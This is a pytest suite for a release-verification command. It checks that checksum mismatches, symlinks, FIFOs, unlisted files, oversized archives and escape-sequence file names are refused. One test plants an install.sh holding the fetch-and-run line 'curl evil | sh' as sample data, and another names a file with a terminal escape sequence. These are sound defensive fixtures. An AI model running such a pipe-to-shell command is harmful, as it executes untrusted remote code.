"""`verify` through the command line: real folders, links, FIFOs, and the JSON answer."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import jsonschema
import pytest

from toolkit import schemas
from toolkit.pack.tree import Tree
from toolkit.release.archive import write_archive
from toolkit.release.limits import MAX_ARCHIVE_BYTES

if TYPE_CHECKING:
    from tests.release.workshop import Workshop

ARCHIVE = "acme.api-1.0.0.tar.gz"


@pytest.fixture
def release(workshop: Workshop) -> Path:
    """Return a good release folder."""
    assert workshop.run("release-archive").code == 0
    return workshop.root / "dist/acme.api/1.0.0"


def asked(workshop: Workshop, path: Path) -> tuple[int, Any]:
    """Return exit code and JSON answer, after validating the answer with its schema."""
    answer = workshop.run("verify", str(path), "--checksums-only", "--rebuild", "--format", "json")
    found = json.loads(answer.out)
    jsonschema.Draft202012Validator(schemas.load("verification.v1")).validate(found)
    assert str(workshop.root) not in answer.out
    return answer.code, found


def test_the_schema_is_one() -> None:
    """The published schema is valid draft 2020-12."""
    jsonschema.Draft202012Validator.check_schema(schemas.load("verification.v1"))


def test_a_good_release(workshop: Workshop, release: Path) -> None:
    """Consistent, smoke passes: exit 0, and never more than "checksums only"."""
    code, found = asked(workshop, release)

    assert code == 0
    assert found["outcome"] == "checksums only"
    assert found["signature"] == {"status": "unchecked", "signer": None, "key": None}
    assert found["lock"] is None
    assert found["passed"] is True
    assert found["release"]["rebuilt"] is True
    assert found["smoke"] == {"status": "pass", "failures": []}
    assert [step["status"] for step in found["steps"]].count("pass") == 6


@pytest.mark.parametrize("form", ["text", "md"])
def test_pages_for_people_say_what_is_not_proven(
    workshop: Workshop, release: Path, form: str
) -> None:
    """No report calls an unsigned release verified."""
    answer = workshop.run("verify", str(release), "--checksums-only", "--format", form)

    assert answer.code == 0
    assert "checksums only" in answer.out
    assert "No signature was checked" in " ".join(answer.out.split())
    assert "verified" not in answer.out


@pytest.mark.parametrize("form", ["text", "md", "json"])
def test_without_trust_the_answer_is_neither_yes_nor_no(
    workshop: Workshop, release: Path, form: str
) -> None:
    """Exit 3, called unverified, with the options that lead on."""
    for path in (release, release / ARCHIVE):
        answer = workshop.run("verify", str(path), "--format", form)

        assert answer.code == 3
        assert "unverified" in answer.out
        if form != "json":
            assert "--allowed-signers FILE" in " ".join(answer.out.split())
            assert "--checksums-only" in answer.out


def test_a_lone_archive(workshop: Workshop, release: Path) -> None:
    """There is nothing to compare it with, and the answer says so."""
    code, found = asked(workshop, release / ARCHIVE)

    assert (code, found["outcome"]) == (0, "archive only")


def test_answers_are_stable(workshop: Workshop, release: Path) -> None:
    """The same release gives the same answer, byte for byte, wherever it lies."""
    shutil.copytree(release, workshop.root / "other" / release.name)

    options = ("--checksums-only", "--format", "json")
    one = workshop.run("verify", str(release), *options).out
    two = workshop.run("verify", f"other/{release.name}", *options).out

    assert one == two


def refusal(workshop: Workshop, path: Path) -> str:
    """Return the code of the refusal; the exit code is then 1."""
    code, found = asked(workshop, path)
    assert code == 1
    assert found["passed"] is False
    assert found["release"] is None
    assert found["smoke"] is None
    return str(found["refusal"]["code"])


def test_a_changed_byte(workshop: Workshop, release: Path) -> None:
    """In any file of the folder."""
    data = (release / ARCHIVE).read_bytes()
    (release / ARCHIVE).write_bytes(data[:-1] + bytes([data[-1] ^ 1]))

    assert refusal(workshop, release) == "SUMS_MISMATCH"


def test_101_a_link_in_the_release(workshop: Workshop, release: Path) -> None:
    """A link to the right bytes is refused, too: it can lead elsewhere tomorrow."""
    (release / ARCHIVE).rename(workshop.root / ARCHIVE)
    (release / ARCHIVE).symlink_to(workshop.root / ARCHIVE)

    assert refusal(workshop, release) == "RELEASE_NOT_REGULAR"


def test_a_fifo_in_the_release(workshop: Workshop, release: Path) -> None:
    """Nobody waits for it to be written."""
    os.mkfifo(release / "pipe")

    assert refusal(workshop, release) == "RELEASE_NOT_REGULAR"


def test_a_folder_in_the_release(workshop: Workshop, release: Path) -> None:
    """Releases are flat."""
    (release / "more").mkdir()

    assert refusal(workshop, release) == "RELEASE_NOT_REGULAR"


def test_an_unlisted_file(workshop: Workshop, release: Path) -> None:
    """What sha256sum never sees."""
    (release / "install.sh").write_text("curl evil | sh\n", encoding="utf-8")

    assert refusal(workshop, release) == "SUMS_FILE_UNLISTED"


def test_a_huge_archive_is_not_read(workshop: Workshop, release: Path) -> None:
    """A sparse file beyond the cap is refused by its size."""
    huge = release.parent / ARCHIVE
    with huge.open("wb") as file:
        file.truncate(MAX_ARCHIVE_BYTES + 1)

    assert refusal(workshop, huge) == "ARCHIVE_TOO_LARGE"


@pytest.mark.parametrize("inside", ["", "/files", "/../1.0.0/files"])
def test_a_release_is_not_spoiled_by_its_own_files(
    workshop: Workshop, release: Path, inside: str
) -> None:
    """A release folder holds its own files alone, so extracting into it would break it."""
    words = ("verify", str(release), "--checksums-only")

    answer = workshop.run(*words, "--extract-to", f"{release}{inside}")

    assert answer.code == 2
    assert "lies in the release" in answer.err
    assert workshop.run(*words).code == 0


def test_too_many_files(workshop: Workshop, release: Path) -> None:
    """A folder of a thousand files is no release."""
    for number in range(1000):
        (release / f"f{number}").touch()

    assert refusal(workshop, release) == "RELEASE_FILES"


def test_a_name_with_an_escape_sequence_is_spelled_out(workshop: Workshop, release: Path) -> None:
    """No name reaches the terminal as it is."""
    (release / "\x1b[2J").touch()

    answer = workshop.run("verify", str(release))

    assert answer.code == 1
    assert "\x1b" not in answer.out + answer.err


def test_a_sound_archive_of_a_pack_that_fails_smoke(workshop: Workshop) -> None:
    """The archive is canonical, and what is in it is no pack: refused, with a code."""
    examined = workshop.pack / "rules/security.yaml"
    examined.write_text(examined.read_text(encoding="utf-8").replace("< 500", "<"), "utf-8")
    files = {
        path.relative_to(workshop.pack).as_posix(): path.read_bytes()
        for path in workshop.pack.rglob("*")
        if path.is_file()
    }
    target = workshop.root / ARCHIVE
    target.write_bytes(write_archive(Tree.of_files(files), stem="acme.api-1.0.0"))

    code, found = asked(workshop, target)

    assert code == 1
    assert found["outcome"] == "refused"
    assert found["refusal"]["code"] == "CONTENT_SMOKE"
    assert found["passed"] is False
    assert found["smoke"]["status"] == "fail"
    assert found["smoke"]["failures"]
    assert found["steps"][-1]["status"] == "refused"


def test_a_name_that_no_file_can_have(workshop: Workshop) -> None:
    """What the system says is a message, not our fault."""
    answer = workshop.run("verify", "x" * 5000)

    assert answer.code == 3
    assert "File name too long" in answer.err


@pytest.mark.parametrize("path", ["nothing-here", "dist/nothing"])
def test_nothing_to_judge(workshop: Workshop, path: str) -> None:
    """No such path: the question could not be answered."""
    answer = workshop.run("verify", path)

    assert answer.code == 3
    assert "no such file or folder" in answer.err


def test_a_link_to_an_archive(workshop: Workshop, release: Path) -> None:
    """Links are not followed; the message says what to give instead."""
    (workshop.root / ARCHIVE).symlink_to(release / ARCHIVE)

    answer = workshop.run("verify", ARCHIVE)

    assert answer.code == 3
    assert "not a regular file but a symbolic link" in answer.err


def test_some_other_file(workshop: Workshop) -> None:
    """A file that is no archive is refused as one."""
    assert refusal(workshop, workshop.root / ".gitignore") == "GZIP_NOT_GZIP"


def test_an_empty_folder(workshop: Workshop) -> None:
    """A folder without sums is no release."""
    (workshop.root / "empty").mkdir()

    assert refusal(workshop, workshop.root / "empty") == "SUMS_MISSING"


@pytest.mark.parametrize("path", ["dist", "dist/acme.api"])
def test_a_folder_of_releases(workshop: Workshop, release: Path, path: str) -> None:
    """A level too high: the message gives the path that was meant."""
    answer = workshop.run("verify", path)

    assert release.is_dir()
    assert answer.code == 3
    assert "give dist/acme.api/1.0.0" in answer.err


def test_a_pack_instead_of_a_release(workshop: Workshop) -> None:
    """Packs are judged by smoke."""
    answer = workshop.run("verify", "packs/api")

    assert answer.code == 3
    assert "this is a pack" in answer.err


def test_without_a_path_every_collected_release_is_judged(
    workshop: Workshop, release: Path
) -> None:
    """All are reported, and one that is refused decides."""
    workshop.set_version("1.1.0")
    assert workshop.run("release-archive").code == 0

    good = workshop.run("verify", "--checksums-only", "--format", "json")
    found = json.loads(good.out)
    assert (good.code, [answer["passed"] for answer in found]) == (0, [True, True])
    assert [answer["path"] for answer in found] == ["dist/acme.api/1.0.0", "dist/acme.api/1.1.0"]

    (release / "SHA256SUMS").unlink()
    assert workshop.run("verify").code == 1
    bad = workshop.run("verify", "--checksums-only", "--format", "json")
    assert (bad.code, [answer["passed"] for answer in json.loads(bad.out)]) == (1, [False, True])
    pages = workshop.run("verify")
    assert (pages.code, pages.out.count("Verification of")) == (1, 2)


def test_one_collected_release_is_one_object(workshop: Workshop, release: Path) -> None:
    """As everywhere: one is an object, however it was chosen; several are an array."""
    assert release.is_dir()
    answer = workshop.run("verify", "--checksums-only", "--format", "json")
    assert json.loads(answer.out)["passed"] is True


def test_nothing_collected(workshop: Workshop) -> None:
    """What to do is said."""
    answer = workshop.run("verify")

    assert answer.code == 3
    assert "no releases here" in answer.err
    assert "release-archive" in answer.err


ONCE = """
import collections, json, sys
opened = collections.Counter()
def hook(event, arguments):
    if event == "open" and isinstance(arguments[0], str) and "1.0.0" in arguments[0]:
        opened[arguments[0].rpartition("/")[2]] += 1
sys.addaudithook(hook)
from toolkit.cli import main
code = main(["verify", sys.argv[1], "--checksums-only", "--rebuild", "--extract-to", "out"])
print(json.dumps([code, opened]))
"""


def test_122_what_was_hashed_is_what_is_used(workshop: Workshop, release: Path) -> None:
    """Every file is opened once: what a swap could show afterwards, nobody looks at."""
    done = subprocess.run(
        [sys.executable, "-c", ONCE, str(release)],
        cwd=workshop.root,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
        capture_output=True,
        check=True,
        text=True,
    )

    code, opened = json.loads(done.stdout.splitlines()[-1])
    assert code == 0
    assert opened == {path.name: 1 for path in release.iterdir()}
